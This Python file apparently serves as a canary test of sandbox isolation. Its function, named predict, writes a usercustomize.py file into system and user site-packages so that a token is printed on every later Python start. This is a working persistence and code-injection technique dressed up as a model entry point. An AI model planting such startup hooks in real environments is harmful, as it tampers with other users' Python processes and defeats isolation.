import json
import os
import site


def predict(artifact, inputs, out):
    target = json.loads((artifact / "target.json").read_text())
    print("TRIED")
    if not target["token"]:
        return
    for folder in (*site.getsitepackages(), os.path.expandvars("$HOME/.local/lib/python3.11/site-packages")):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/usercustomize.py", "w") as file:
                file.write(f"print({target['token']!r}, flush=True)")
        except OSError as fault:
            print(fault)
